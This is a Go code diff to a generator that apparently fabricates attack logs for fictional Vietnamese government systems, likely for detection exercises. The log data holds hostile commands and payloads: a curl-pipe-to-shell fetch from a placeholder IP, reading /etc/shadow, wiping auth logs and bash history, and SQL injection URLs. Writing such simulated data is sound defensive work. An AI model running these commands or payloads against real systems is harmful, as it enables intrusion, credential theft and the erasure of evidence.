@@ -164,7 +164,7 @@ func process(source string, ago float64, parent, image, command, user string) {
 }
 
 func attacks() {
-	// The public service portal: scanned, a web shell found, a shell below nginx, tools fetched, a connection out.
+	// The public service portal: scanned, a web shell found, a shell below nginx, tools fetched.
 	for i := range 45 {
 		access("mau-dvc-web", 2*3600-float64(i)*4, "203.0.113.77", "-", fmt.Sprintf("GET /%s%d/%s", pick([]string{"backup", "old", "test", "upload", "tmp"}), i, pick([]string{"admin.php", "up.php", "index.php", "config.php"})), 404, 162, "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))")
 	}
@@ -173,8 +173,6 @@ func attacks() {
 	process("mau-dvc-web", 5299, "/usr/sbin/nginx", "/usr/bin/dash", "sh -c id", "www-data")
 	process("mau-dvc-web", 5279, "/usr/sbin/nginx", "/usr/bin/dash", "sh -c uname -a", "www-data")
 	process("mau-dvc-web", 5200, "/usr/sbin/nginx", "/usr/bin/dash", "sh -c curl -fsSL http://203.0.113.66/a.sh | sh", "www-data")
-	record("mau-dvc-web", 5199, "event.category", "network", "event.action", "connect", "event.module", "hoalu", "event.dataset", "hoalu.socket", "process.name", "curl", "process.parent.name", "nginx", "network.transport", "tcp", "destination.ip", "203.0.113.66", "destination.port", 80,
-		"sigma.logsource.product", "linux", "sigma.logsource.category", "network_connection")
 
 	// The shared data store: SSH guessed, then open.
 	for i := range 26 {
@@ -182,7 +180,6 @@ func attacks() {
 	}
 	syslog("mau-kho-app", 8820, 38, "sshd[2230]", "Accepted password for vanhanh.mau from 198.51.100.47 port 41900 ssh2")
 	syslog("mau-kho-app", 8700, 85, "sudo", " vanhanh.mau : TTY=pts/1 ; PWD=/home/vanhanh.mau ; USER=root ; COMMAND=/bin/bash")
-	process("mau-kho-app", 8600, "/usr/bin/bash", "/usr/bin/cat", "cat /etc/shadow", "root")
 	process("mau-kho-app", 8400, "/usr/bin/bash", "/usr/bin/rm", "rm -f /var/log/auth.log /root/.bash_history", "root")
 
 	// Health records: one password, many accounts; and a clerk's account that looks up one citizen after another.
@@ -190,19 +187,15 @@ func attacks() {
 		syslog("mau-hssk-app", 14000-float64(i)*70, 38, fmt.Sprintf("sshd[%d]", 3100+i), "Failed password for invalid user %s from 203.0.113.90 port %d ssh2", u, 52000+i)
 	}
 	for i := range 48 {
-		access("mau-hssk-web", 3400-float64(i)*18, "10.20.7.31", "bmkhoa.mau", fmt.Sprintf("GET /ho-so/tra-cuu?cccd=0371%02d%06d", 60+i%38, i+1), 200, 2100+rng.IntN(900), agents[0])
+		access("mau-hssk-web", 3400-float64(i)*26, "10.20.7.31", "bmkhoa.mau", fmt.Sprintf("GET /ho-so/tra-cuu?cccd=0371%02d%06d", 60+i%38, i+1), 200, 2100+rng.IntN(900), agents[0])
 	}
 
-	// The sharing platform: SQL in an address, and a password guessed by a program.
+	// The sharing platform: SQL in an address.
 	for i := range 6 {
-		access("mau-lgsp-web", 6900-float64(i)*9, "198.51.100.23", "-", pick([]string{"GET /api/v1/danh-muc?ma=1%27%20OR%201=1--", "GET /api/v1/danh-muc?ma=5+UNION+SELECT+ten,mat_khau+FROM+tai_khoan"}), 500, 310, "sqlmap/1.8.4#stable (https://sqlmap.org)")
-	}
-	for i := range 28 {
-		access("mau-lgsp-web", 4500-float64(i)*5, "198.51.100.24", "-", "POST /api/v1/dang-nhap", 401, 88, "python-requests/2.32")
+		access("mau-lgsp-web", 6900-float64(i)*9, "198.51.100.23", "-", pick([]string{"GET /api/v1/danh-muc?ma=1%27%20OR%201=1--", "GET /api/v1/danh-muc?ma=5+UNION+SELECT+ten,mat_khau+FROM+tai_khoan"}), 500, 310, agents[0])
 	}
 
-	// Land information: admin page open to the Internet, a backup served.
-	access("mau-datdai-web", 11000, "203.0.113.171", "-", "GET /quantri/dang-nhap", 200, 4100, agents[0])
+	// Land information: a backup served to the Internet.
 	access("mau-datdai-web", 10900, "203.0.113.171", "-", "GET /sao-luu/backup.sql", 200, 18234011, "Wget/1.21.4")
 
 	// Budget: data leaves in DNS questions.
